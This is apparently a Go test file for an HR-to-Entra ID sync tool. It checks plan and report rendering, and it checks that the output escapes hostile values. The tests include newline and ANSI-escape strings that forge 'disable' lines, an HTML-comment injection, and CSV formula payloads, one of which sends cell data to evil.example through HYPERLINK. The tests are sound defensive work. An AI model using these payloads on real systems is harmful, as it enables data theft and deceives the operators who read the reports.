package render

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hrsync/hrsync/internal/identity"
	"github.com/hrsync/hrsync/internal/plan"
	"github.com/hrsync/hrsync/internal/report"
)

var update = flag.Bool("update", false, "rewrite golden files")

func s(v string) *string { return &v }

func samplePlan() *plan.Plan {
	return &plan.Plan{
		FormatVersion: plan.FormatVersion,
		ToolVersion:   "test",
		CreatedAt:     time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC),
		Target:        plan.Target{Type: "sandbox", Endpoint: "sandbox:/tmp/tenant.json"},
		Inputs: plan.Inputs{
			Config:  plan.InputFile{Path: "hrsync.yaml", Digest: "sha256:aaaaaaaaaaaaaaaaaaaa"},
			Mapping: plan.InputFile{Path: "mappings/example.yaml", Digest: "sha256:bbbbbbbbbbbbbbbbbbbb"},
			Source:  plan.InputFile{Path: "hr/workers.csv", Digest: "sha256:cccccccccccccccccccc", Records: 4},
		},
		Match:     plan.MatchInfo{Source: "[WorkerID]", Target: "employeeId"},
		Policy:    plan.Policy{Leavers: "disable", MaxLeavers: 100, MaxLeaversPercent: 20},
		Summary:   plan.Summary{Create: 1, Update: 1, Disable: 1, Unchanged: 1, Skipped: 2, Managed: 3},
		Applyable: true,
		Actions: []plan.Action{
			{Action: plan.Create, Key: "1004", DisplayName: "Zoë Müller", UserPrincipalName: "zoe.muller@contoso.com",
				Source: &identity.Provenance{File: "hr/workers.csv", Line: 5},
				Changes: []plan.Change{
					{Attribute: "displayName", After: s("Zoë Müller")},
					{Attribute: "userPrincipalName", After: s("zoe.muller@contoso.com")},
					{Attribute: "accountEnabled", After: s("true")},
					{Attribute: "manager", After: s("1001")},
				},
				Manager: &plan.ManagerRef{Key: "1001", ID: "id-1001"}},
			{Action: plan.Update, Key: "1002", ID: "id-1002", DisplayName: "Seán O'Brien", UserPrincipalName: "sean.obrien@contoso.com",
				Source: &identity.Provenance{File: "hr/workers.csv", Line: 3},
				Changes: []plan.Change{
					{Attribute: "department", Before: s("Sales"), After: s("R&D | Labs")},
					{Attribute: "jobTitle", Before: s("Engineer"), After: nil},
				}},
			{Action: plan.Disable, Key: "1009", ID: "id-1009", DisplayName: "Gone Person", UserPrincipalName: "gone@contoso.com",
				Reason:  "absent from source",
				Changes: []plan.Change{{Attribute: "accountEnabled", Before: s("true"), After: s("false")}}},
		},
		Warnings: []plan.Warning{
			{Code: plan.WarnDuplicateKey, Key: "1005", Message: `match key "1005" is used by 2 records (hr/workers.csv:6, hr/workers.csv:7); all are left out and the user with this key is left alone`,
				Sources: []identity.Provenance{{File: "hr/workers.csv", Line: 6}, {File: "hr/workers.csv", Line: 7}}},
			{Code: plan.WarnManagerNotFound, Key: "1004", Message: `manager "1099" is neither in the source nor in Entra ID; the manager is left unchanged`,
				Sources: []identity.Provenance{{File: "hr/workers.csv", Line: 5}}},
		},
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/render -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden file (run with -update if intended):\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func TestPlanFormats(t *testing.T) {
	blocked := samplePlan()
	blocked.Applyable = false
	blocked.Blocked = []string{"12 leavers exceed policy.max_leavers (10)"}
	empty := samplePlan()
	empty.Actions, empty.Warnings = nil, nil
	empty.Summary = plan.Summary{Unchanged: 4, Managed: 4}
	stuck := samplePlan()
	stuck.Actions = nil
	stuck.Summary = plan.Summary{Unchanged: 49, Skipped: 1, Managed: 50}
	stuck.Warnings = []plan.Warning{{Code: plan.WarnUPNConflict, Key: "1048",
		Message: "cannot create: userPrincipalName john.smith@contoso.com is already taken by existing user 058128f3 (employeeId 1003); change the mapping or the source so they differ",
		Sources: []identity.Provenance{{File: "hr/workers.csv", Line: 49}}}}
	tests := []struct {
		name, format, golden string
		p                    *plan.Plan
	}{
		{"text", "text", "plan.txt", samplePlan()},
		{"json", "json", "plan.json", samplePlan()},
		{"markdown", "markdown", "plan.md", samplePlan()},
		{"blocked text", "text", "plan-blocked.txt", blocked},
		{"no changes", "text", "plan-empty.txt", empty},
		{"no changes, but a problem", "text", "plan-problems.txt", stuck},
		{"no changes, but a problem (markdown)", "markdown", "plan-problems.md", stuck},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Plan(&buf, tt.p, tt.format); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.golden, buf.Bytes())
		})
	}
	if err := Plan(&bytes.Buffer{}, samplePlan(), "yaml"); err == nil {
		t.Error("unknown format accepted")
	}
}

func TestTextEndsWithSummaryLine(t *testing.T) {
	var buf bytes.Buffer
	if err := Text(&buf, samplePlan()); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if got := lines[len(lines)-1]; got != "Plan: 1 to create, 1 to update, 0 to enable, 1 to disable, 0 to delete. 1 unchanged, 2 skipped. 1 unresolved problem, 1 note." {
		t.Errorf("last line = %q", got)
	}
}

func TestReport(t *testing.T) {
	r := &report.Report{
		StartedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), FinishedAt: time.Date(2026, 1, 1, 0, 0, 2, 0, time.UTC),
		Done: 2, Failed: 1,
		Results: []report.Result{
			{Action: "create", Key: "1", Status: report.StatusDone, Note: "already created by an earlier apply; adopted"},
			{Action: "update", Key: "2", Status: report.StatusDone},
			{Action: "update", Key: "3", Status: report.StatusFailed, Error: "update user x: graph 404 Request_ResourceNotFound: gone"},
		},
	}
	var buf bytes.Buffer
	if err := Report(&buf, r, ReportOptions{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.txt", buf.Bytes())
}

// Ctrl-C during a large apply: identical outcomes are grouped, a few keys
// each, every unfinished result with its reason, and the last line counts
// every status; the report file lists each action.
func TestReportGroupsALargeInterruptedApply(t *testing.T) {
	r := &report.Report{
		StartedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), FinishedAt: time.Date(2026, 1, 1, 0, 3, 2, 0, time.UTC),
		Stopped: "stopped (interrupt signal received)",
	}
	add := func(n int, res report.Result) {
		for i := 0; i < n; i++ {
			res.Key = strconv.Itoa(10000 + len(r.Results))
			r.Results = append(r.Results, res)
		}
	}
	add(1, report.Result{Action: "create", Status: report.StatusDone, Note: "initial password: set"})
	add(30159, report.Result{Action: "create", Status: report.StatusPartial, Error: "stopped (interrupt signal received) before setting its manager reference"})
	for i := 0; i < 7; i++ {
		add(1, report.Result{Action: "update", Status: report.StatusFailed, ErrorCode: "Request_ResourceNotFound",
			Error: "update user id-" + strconv.Itoa(i) + ": graph 404 Request_ResourceNotFound: gone"})
	}
	add(1, report.Result{Action: "update", Status: report.StatusRefused, ErrorCode: "stale_plan", Error: "user u1 changed since the plan"})
	add(9840, report.Result{Action: "create", Status: report.StatusNotStarted, Error: "stopped (interrupt signal received) before this action was sent"})
	r.Done, r.Partial, r.Failed, r.Refused, r.NotStarted = 1, 30159, 7, 1, 9840
	var buf bytes.Buffer
	if err := Report(&buf, r, ReportOptions{Full: "report.csv"}); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\n"); n > 20 {
		t.Errorf("%d lines for 40,009 results", n)
	}
	golden(t, "report-interrupted.txt", buf.Bytes())
}

func TestThousands(t *testing.T) {
	for n, want := range map[int]string{0: "0", 999: "999", 1000: "1,000", 30159: "30,159", 1234567: "1,234,567", -1500: "-1,500"} {
		if got := thousands(n); got != want {
			t.Errorf("thousands(%d) = %q, want %q", n, got, want)
		}
	}
}

func TestReportCSV(t *testing.T) {
	r := &report.Report{Results: []report.Result{
		{Action: "create", Key: "1001", ID: "id-1", Attributes: []string{"displayName", "userPrincipalName"}, Status: report.StatusDone},
		{Action: "update", Key: "1002", ID: "id-2", Attributes: []string{"department"}, Status: report.StatusFailed, ErrorCode: "Request_ResourceNotFound", Error: "update user id-2: graph 404 Request_ResourceNotFound: Resource 'id-2' does not exist, really"},
	}}
	var buf bytes.Buffer
	if err := ReportCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.csv", buf.Bytes())
}

func TestTextEscapesControlCharacters(t *testing.T) {
	p := samplePlan()
	p.Actions[2].DisplayName = "Cruz\n\n  - disable 1001  Amelia Hart"
	p.Actions[2].UserPrincipalName = "x\x1b[2J@contoso.com"
	p.Warnings[0].Message = "two\nlines"
	p.Actions[0].Source.File = "w.csv\n  - disable 9 \x1b[8m"
	p.Inputs.Source.Path = "workers.csv` <!-- "
	for _, format := range []string{"text", "markdown"} {
		var buf bytes.Buffer
		if err := Plan(&buf, p, format); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if format == "markdown" {
			// In a code span, an HTML comment is text: shown, never parsed.
			out = strings.Replace(out, "``workers.csv` <!-- ``", "(code span)", 1)
		}
		if strings.Contains(out, "\n  - disable 1001") || strings.Contains(out, "\n  - disable 9") || strings.Contains(out, "\x1b") ||
			strings.Contains(out, "two\nlines") || strings.Contains(out, "<!--") {
			t.Errorf("%s: a value forged output:\n%s", format, out)
		}
		shown := `Cruz\n\n  - disable 1001`
		if format == "markdown" {
			shown = `Cruz\\n\\n  - disable 1001` // the backslashes escaped: shown as in text
		}
		if !strings.Contains(out, shown) {
			t.Errorf("%s: the value is not shown escaped:\n%s", format, out)
		}
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+1", "'+1"},
		{"-1+2", "'-1+2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"", ""},
		{"1001", "1001"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'quoted", "'quoted"},
	}
	for _, tc := range tests {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// No cell of the CSV report starts like a spreadsheet formula: keys, error
// messages and notes carry HR's and Graph's text.
func TestReportCSVEscapesFormulas(t *testing.T) {
	for _, c := range []string{"=", "+", "-", "@", "\t", "\r"} {
		t.Run(strconv.Quote(c), func(t *testing.T) {
			v := c + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
			r := &report.Report{Results: []report.Result{{Action: v, Key: v, ID: v, Attributes: []string{v}, Status: v,
				ErrorCode: v, Error: v, Note: v}}}
			var buf bytes.Buffer
			if err := ReportCSV(&buf, r); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 {
				t.Fatalf("rows = %q", rows)
			}
			for i, cell := range rows[1] {
				if cell != "'"+v {
					t.Errorf("column %s = %q, want %q", rows[0][i], cell, "'"+v)
				}
			}
		})
	}
}
